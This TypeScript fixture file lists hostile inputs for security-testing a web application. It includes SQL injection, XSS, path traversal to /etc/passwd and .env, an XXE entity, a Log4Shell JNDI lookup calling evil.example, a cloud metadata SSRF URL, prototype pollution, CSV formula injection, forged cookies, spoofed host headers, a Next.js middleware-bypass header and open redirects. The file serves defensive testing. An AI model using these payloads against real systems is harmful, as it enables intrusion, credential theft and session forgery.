/** What is put into every field, header and address: data only, for the command and for tests. */

/** Text that does harm if it is trusted, one of each kind. */
export const TEXTS: readonly string[] = [
  "' OR '1'='1",
  "'; drop table look_ups; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f.env',
  '${7*7}{{7*7}}<%= 7*7 %>',
  '=cmd|" /C calc"!A0',
  'a\r\nSet-Cookie: session=forged',
  '\u001b[2J\u001b]0;owned\u0007',
  'line\n{"level":"info","event":"forged"}',
  '%00%0a%ff',
  'AB\0CD',
  'AB\ud83dCD',
  'AB\ude00CD',
  '\u202e\u2066txt.exe',
  '${jndi:ldap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data',
  '__proto__',
  '9'.repeat(400),
  'x'.repeat(20_000),
];

/** Values of another kind than the field expects. */
export const VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  0,
  1e308,
  Number.MIN_SAFE_INTEGER,
  [],
  [[[[[[]]]]]],
  {},
  { toString: 'x', valueOf: 'y' },
  JSON.parse('{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}'),
  Array.from({ length: 1_000 }, (_, index) => index),
];

/** Bodies that are not JSON, or not what they claim to be. */
export const BODIES: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '{',
  '{"a":1}{"b":2}',
  '{"a":1,"a":2}',
  '[[['.repeat(5_000),
  `{"a":"${'\\u0000'.repeat(100)}"}`,
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a=1&b=2',
  '\ufeff{}',
];

/** Cookies that no sign-in made. */
export const COOKIES: readonly string[] = [
  'session=',
  'session=a.b',
  `session=${'A'.repeat(32)}.${'A'.repeat(43)}=`,
  'session=%00',
  'session=%',
  'session=__proto__',
  `session=${'x'.repeat(8_000)}`,
  'session=a; session=b; session=c',
  'device=1.aaaaaaaaaaaaaaaa.bbbb',
  'theme=<script>',
  '__Host-session=forged',
];

/** Headers by which a request claims to be another's. */
export const CLAIMS: readonly Readonly<Record<string, string>>[] = [
  { host: 'evil.example' },
  { host: 'evil.example:80@localhost' },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-forwarded-for': '127.0.0.1', 'x-forwarded-proto': 'https' },
  { forwarded: 'for=127.0.0.1;host=evil.example;proto=https' },
  { origin: 'https://evil.example' },
  { origin: 'null' },
  { 'sec-fetch-site': 'cross-site' },
  { referer: 'https://evil.example/' },
  { 'x-client-address': '127.0.0.1' },
  { 'x-nonce': 'forged', 'content-security-policy': "script-src 'nonce-forged'" },
  { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
  { 'next-action': 'forged' },
  { 'x-http-method-override': 'DELETE' },
  { rsc: '1', 'next-router-state-tree': '%5B%22%22%5D' },
];

/** Addresses meant to reach, or to print, something else. */
export const PATHS: readonly string[] = [
  '/_next/image?url=%0A%7B%22event%22%3A%22forged%22%7D&w=1&q=1',
  '/%0a%0d{"event":"forged"}',
  '/%1b[2J',
  '/..%2f..%2f.env',
  '/.env',
  '/.git/config',
  '/api/../.env',
  '//evil.example/',
  '/api/valuations/%00',
  '/api/valuations/%ff',
  '/valuations/__proto__',
  '/sign-in?goTo=//evil.example',
  '/sign-in?goTo=%0d%0aSet-Cookie:%20a=b',
  `/${'a/'.repeat(3_000)}`,
  '/sandbox/%2e%2e/api/people',
];
